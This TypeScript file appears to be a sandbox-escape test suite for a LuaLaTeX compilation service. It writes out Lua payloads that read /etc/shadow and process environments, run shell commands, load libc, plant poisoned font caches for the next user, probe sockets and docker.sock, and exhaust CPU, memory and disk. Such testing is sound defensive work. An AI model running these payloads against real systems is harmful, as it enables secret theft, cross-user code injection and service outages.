/**
 * Documents that attack through Lua: LuaLaTeX runs the document's code, with Lua's own means to open, list,
 * link and remove files, so TeX's restrictions on file names do not apply. It is restrained by the box, and by
 * what LuaTeX removes at its start.
 */
import {
  type Attack,
  type AttackKind,
  byDocument,
  fill,
  luatex,
  type Place,
  type Step,
  wrap,
} from './attack.ts';

const document = (lua: string, body = '') =>
  luatex +
  wrap(
    `\\begin{luacode*}\n${tools}${lua}\n\\end{luacode*}\n${body}`,
    '\\usepackage{luacode}\\usepackage{graphicx}\n',
  );

/** Prints what it finds on the page; a failure must not prevent the next try. */
const tools = `local function show(value) tex.print(-2, (tostring(value):gsub('%c', ' '):sub(1, 3000))) end
local function try(work, ...) local done, value = pcall(work, ...) if value ~= nil then show(value) end return value end
local function read(name) try(function() local file = io.open(name, 'rb') local text = file:read('a') file:close() return text end) end
`;

const byLua = (
  kind: AttackKind,
  what: string,
  lua: string | ((place: Place) => string),
  rest: Partial<Pick<Step, 'cpuMs' | 'assets'>> = {},
  body = '',
): Attack =>
  byDocument(
    kind,
    `Lua: ${what}`,
    (place) => document(typeof lua === 'string' ? lua : lua(place), body),
    rest,
  );

/** The attacker works first, twice; then the neighbour, who must get its own text and no mark. */
const plant = (what: string, lua: (place: Place) => string): Attack => ({
  kind: 'run',
  what: `Lua: ${what}`,
  steps: (place) => {
    const neighbour = (edit: string): Step => ({
      owner: 'neighbour',
      latex: `${luatex}\\documentclass{article}\n\\usepackage{fontspec}\\setmainfont{TeX Gyre Pagella}\n\\begin{document}\nwholesome ${edit}\n\\end{document}\n`,
      shows: `wholesome ${edit}`,
    });
    const attack: Step = { owner: 'attacker', latex: fill(document(lua(place)), place) };
    return [neighbour('zero'), attack, attack, neighbour('one'), neighbour('two')];
  },
});

/**
 * Every folder that can be listed and entered, from these on, except the distribution's; `visit` is applied to
 * each file.
 */
const walk = (from: string, visit: string) => `local count = 0
local function walk(folder, depth)
  local listed, list, state = pcall(lfs.dir, folder)
  if not listed then return end
  for name in list, state do
    local path = folder .. '/' .. name
    local kind = name ~= '.' and name ~= '..' and lfs.symlinkattributes(path, 'mode')
    if kind == 'directory' and depth > 0 and name ~= 'usr' then walk(path, depth - 1)
    elseif kind and count < 20000 then count = count + 1 ${visit} end
  end
end
for _, folder in ipairs { ${from} } do walk(folder, 6) end
`;
const showSecrets = `pcall(function() local file = io.open(path, 'rb') local text = file:read(60000) file:close() if text:find('secret') or text:find('root:') then show(text) end end)`;

export const attacksByLua: readonly Attack[] = [
  byLua(
    'read',
    'a file opened in every way',
    `for _, name in ipairs { '@/canary.txt', '@/./canary.txt', '../../canary.txt', '../../../canary.txt', '/proc/self/cwd/../../canary.txt' } do
  read(name)
  try(function() return io.lines(name)() end)
  try(function() io.input(name) return io.read('a') end)
  try(loadfile, name) try(function() return select(2, loadfile(name)) end) try(dofile, name)
  try(function() return fio.readline(io.open(name)) end)
  try(function() return io.loaddata(name) end)
  try(function() return kpse.find_file(name) end)
  try(function() pdf.immediateobj('streamfile', name) end)
  try(function() pdf.immediateobj('file', name) end)
  try(function() return gzip.open(name):read('*a') end)
  try(function() return lfs.readlink(name) end)
end
try(function() return pdfe.open('@/canary.pdf') end)
try(function() img.write { filename = '@/canary.pdf' } end)
try(function() img.write { filename = '@/canary.png' } end)
try(function() return fontloader.open('@/canary.otf').fontname end)
try(function() return mplib.new({ find_file = function() return '@/canary.txt' end }):execute('string s; s := readfrom "canary.txt"; message s; end').term end)
tex.print('\\\\font\\\\x="[@/canary.otf]" \\\\x hello')`,
  ),
  byLua(
    'read',
    'a file found by callbacks',
    `for _, what in ipairs { 'find_read_file', 'find_image_file', 'find_data_file', 'find_font_file', 'find_map_file', 'find_enc_file', 'find_opentype_file', 'find_truetype_file', 'find_type1_file', 'find_vf_file' } do
  pcall(function() luatexbase.add_to_callback(what, function(name) return what == 'find_image_file' and '@/canary.pdf' or '@/canary.txt' end, 'foreign') end)
end
pcall(function() luatexbase.add_to_callback('open_read_file', function() local file = io.open('@/canary.txt') return { reader = function() return file and file:read() end } end, 'foreign') end)
pcall(function() luatexbase.add_to_callback('finish_pdffile', function() pdf.immediateobj('streamfile', '@/canary.txt') end, 'foreign') end)
tex.print('\\\\includegraphics{canary.pdf}\\\\input{canary}')`,
    {},
    '\\includegraphics{own.pdf}\\input{own.txt}',
  ),
  byLua(
    'read',
    'the environment, the list of users and the processes',
    `for _, name in ipairs { '/etc/passwd', '/etc/shadow', '/proc/self/environ', '/proc/self/maps', '/proc/self/mountinfo', '/proc/cmdline' } do read(name) end
for id = 1, 300 do read('/proc/' .. id .. '/environ') read('/proc/' .. id .. '/cmdline') end
for id = 3, 40 do read('/proc/self/fd/' .. id) read('/dev/fd/' .. id) end
for name, value in pairs(os.env or {}) do show(name .. value) end
show(os.getenv('INKPROOF_CANARY'))`,
  ),
  byLua(
    'read',
    'whatever can be listed',
    walk("'/', '.', '..', '../..', '@/', '/proc/self/root'", showSecrets),
  ),
  byLua(
    'read',
    'links to a foreign file, under the names of what is read back',
    `for _, name in ipairs { 'x.txt', 'main.log', 'main.aux', 'main.pdf', 'main.synctex.gz', 'main.toc', 'main.out', 'main.bcf' } do
  pcall(os.remove, name)
  pcall(lfs.link, '@/canary.txt', name, true) pcall(lfs.link, '@/canary.txt', name)
end
read('x.txt') read('main.toc')`,
    {},
    '\\tableofcontents\\section{x}\\label{x}\\ref{x}',
  ),
  {
    kind: 'read',
    what: 'Lua: what the owner before left',
    steps: (place) => [
      {
        owner: 'neighbour',
        latex: `${luatex}\\documentclass{article}\n\\usepackage{fontspec}\\setmainfont{TeX Gyre Pagella}\n\\begin{document}\n${place.secret}\\directlua{io.open(".cache/kept.txt", "w"):write("${place.secret}")}\n\\end{document}\n`,
        shows: place.secret,
      },
      {
        owner: 'attacker',
        latex: fill(
          document(
            walk("'.', '..', '../..', '/tmp', '/texmf', '/work', '/var/tmp', '/dev/shm'", showSecrets),
          ),
          place,
        ),
      },
    ],
  },
  byLua(
    'run',
    'programs started in every way',
    `local command = 'cp @/canary.txt @drop/ran; cp @/canary.txt leaked.tex'
try(os.execute, command) try(os.exec, command) try(os.spawn, command) try(os.spawn, { '/bin/cp', '@/canary.txt', '@drop/ran' })
try(function() return io.popen('cat @/canary.txt'):read('a') end)
try(function() return os.kpsepopen('cat @/canary.txt', 'r'):read('a') end)
try(function() return os.resultof('cat @/canary.txt') end)
texconfig.shell_escape = 't' kpse.set_program_name('luatex') kpse.init_prog('', 600, '', '')
os.setenv('shell_escape', 't') os.setenv('openout_any', 'a') os.setenv('LD_PRELOAD', './x.so')
try(os.execute, command) tex.print('\\\\immediate\\\\write18{' .. command .. '}')`,
    {},
    '\\IfFileExists{leaked.tex}{\\input{leaked}}{}',
  ),
  {
    kind: 'run',
    what: 'Lua: libraries of machine code',
    steps: (place) => {
      const libraries = ['/lib/x86_64-linux-gnu/libc.so.6', '/usr/lib/aarch64-linux-gnu/libc.so.6'];
      const lua = `local loaded = 'nothing'
local function note(done, value) if done and type(value) == 'function' then loaded = 'something' end end
for _, library in ipairs { ${libraries.map((name) => `'${name}'`).join(', ')} } do
  for _, name in ipairs { '*', 'system', 'getpid' } do note(pcall(package.loadlib, library, name)) end
  package.cpath = library
  for _, search in ipairs(package.searchers) do note(pcall(search, 'getpid')) end
end
local function reach(ffi) return ffi.C or ffi.load or ffi.cdef end
for _, from in ipairs { function() return require('ffi') end, function() return package.loaded.ffi end, function() return debug.getregistry()._PRELOAD.ffi() end, function() return debug.getregistry()._LOADED.ffi end } do
  local done, ffi = pcall(from)
  if done and type(ffi) == 'table' and reach(ffi) then loaded = 'something' end
end
tex.print(loaded .. ' was loaded')`;
      return [{ owner: 'attacker', latex: fill(document(lua), place), shows: 'nothing was loaded' }];
    },
  },
  byLua(
    'run',
    'bytes that are no program of Lua’s',
    `local whole = string.dump(function(a, b) local t = { a, b } for i = 1, #t do t[i] = t[i] .. 'x' end return t, select('#', a, b) end)
math.randomseed(7)
for round = 1, 4000 do
  local at = math.random(30, #whole)
  local work = load(whole:sub(1, at - 1) .. string.char(math.random(0, 255)) .. whole:sub(at + 1), 'x', 'b')
  if work then pcall(work, 1, 2) end
end`,
    { cpuMs: 6_000 },
  ),
  byLua(
    'run',
    'files written, moved and removed outside',
    `local places = { '@drop/written', '../written', '../../drop/written', '/tmp/inkproof-written', '/dev/shm/inkproof-written', '/texmf/written', kpse.find_file('article.cls'), kpse.find_file('lualatex.fmt', 'fmt') or '/var/lib/texmf/x' }
for _, place in ipairs(places) do
  for _, how in ipairs { 'w', 'a', 'r+' } do pcall(function() local file = io.open(place, how) file:write('x') file:close() end) end
  pcall(function() io.output(place):write('x') end)
  pcall(lfs.mkdir, place .. 'd') pcall(lfs.touch, place) pcall(lfs.link, '@/canary.txt', place .. 'l', true) pcall(lfs.link, '@/canary.txt', place .. 'h')
  pcall(os.rename, 'main.aux', place) pcall(os.remove, place) pcall(lfs.rmdir, place)
end
pcall(os.remove, '@/canary.txt') pcall(os.rename, '@/canary.txt', '@/x.txt') pcall(os.rename, '@/canary.txt', 'x.txt')
pcall(function() io.open('@/canary.txt', 'r+'):write('x') end)
if lfs.chdir('@drop/') then pcall(function() io.open('written', 'w'):write('x') end) end
pcall(lfs.chdir, '..') pcall(function() io.open('written', 'w'):write('x') end)`,
  ),
  plant(
    'fonts and names planted for the owner after',
    ({ mark }) => `local code = "tex.print('${mark}') return {}"
local folders = { '/texmf/fonts', '.cache', '..', '../texmf/fonts' }
for folder in (kpse.expand_var('$TEXMFCACHE') or ''):gmatch('[^:]+') do folders[#folders + 1] = folder end
for _, folder in ipairs(folders) do
  for _, place in ipairs { 'names/luaotfload-names', 'fonts/otl/texgyrepagella-regular', 'fonts/otl/lmroman10-regular' } do
    for _, ending in ipairs { '.lua', '.luc', '.luc.gz', '.lua.gz' } do
      for _, base in ipairs { '/luatex-cache/generic/', '/' } do
        pcall(function() local name = folder .. base .. place .. ending pcall(os.remove, name) local file = io.open(name, 'w') file:write(code) file:close() end)
      end
    end
  end
end
for _, name in ipairs { 'begin.lua', 'lualatexquotejobname.lua', 'luaotfload-main.lua', 'texmf.cnf', 'luaotfload.conf', '../begin.lua' } do
  pcall(function() io.open(name, 'w'):write(code) end)
end`,
  ),
  byLua(
    'reach',
    'sockets of every kind',
    ({
      port,
      udpPort,
      socket,
      abstractSocket,
    }) => `local names = { 'socket', 'socket.core', 'socket.unix', 'mime.core', 'socket.http', 'socket.tp' }
local registry = debug.getregistry()
for _, name in ipairs(names) do
  for _, from in ipairs { function() return require(name) end, function() return package.loaded[name] end, function() return registry._LOADED[name] end, function() return package.preload[name](name) end, function() return registry._PRELOAD[name](name) end, function() return _G[name] end } do
    local done, library = pcall(from)
    if done and type(library) == 'table' then
      pcall(function() local one = library.tcp() one:settimeout(2) show(one:connect('127.0.0.1', ${port})) show(one:receive()) end)
      pcall(function() library.udp():sendto('x', '127.0.0.1', ${udpPort}) end)
      pcall(function() show(library.unix and library.unix():connect('${socket}')) end)
      pcall(function() show(library.request('http://127.0.0.1:${port}/')) end)
    end
  end
end
for _, name in ipairs { '/dev/tcp/127.0.0.1/${port}', '${socket}', '\\0${abstractSocket}', '@${abstractSocket}', '/run/docker.sock', '/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/tty' } do
  read(name) pcall(function() io.open(name, 'w'):write('x') end)
end`,
  ),
  byLua('exhaust', 'an endless loop', 'while true do pcall(error) end', { cpuMs: 5_000 }),
  byLua('exhaust', 'a sleep without end', 'os.sleep(1e6) os.socketsleep(1e6) while true do end', {
    cpuMs: 5_000,
  }),
  byLua(
    'exhaust',
    'a search that takes back what it found',
    "('a'):rep(200000):find(('.-'):rep(40) .. 'b')",
    {
      cpuMs: 5_000,
    },
  ),
  byLua(
    'exhaust',
    'memory in tables and strings',
    "local t = {} while true do t[#t + 1] = ('x'):rep(1e7) .. #t end",
    {
      cpuMs: 6_000,
    },
  ),
  byLua(
    'exhaust',
    'calls without end',
    'local function f(a) return 1 + f(a) end try(f) string.gsub("x", "x", function() return f(1) end)',
    {
      cpuMs: 6_000,
    },
  ),
  byLua(
    'exhaust',
    'a flood of every stream',
    "local x = ('x'):rep(1e6) while true do io.write(x) io.stderr:write(x) texio.write(x) end",
    { cpuMs: 6_000 },
  ),
  byLua(
    'exhaust',
    'a disk filled by large files',
    "local x = ('x'):rep(1e7) for n = 1, 1e6 do pcall(function() local file = io.open('f' .. n, 'w') for _ = 1, 9 do file:write(x) end file:close() end) end",
    { cpuMs: 6_000 },
  ),
  byLua(
    'exhaust',
    'folders in folders, deeper than a path may be long',
    "local name = ('d'):rep(250) for n = 1, 300 do lfs.mkdir(name) if not lfs.chdir(name) then break end end",
    { cpuMs: 6_000 },
  ),
  byLua(
    'exhaust',
    'files opened and never closed',
    "for n = 1, 1e4 do _G['f' .. n] = io.open('f' .. n % 500, 'w') end",
    {
      cpuMs: 6_000,
    },
  ),
];
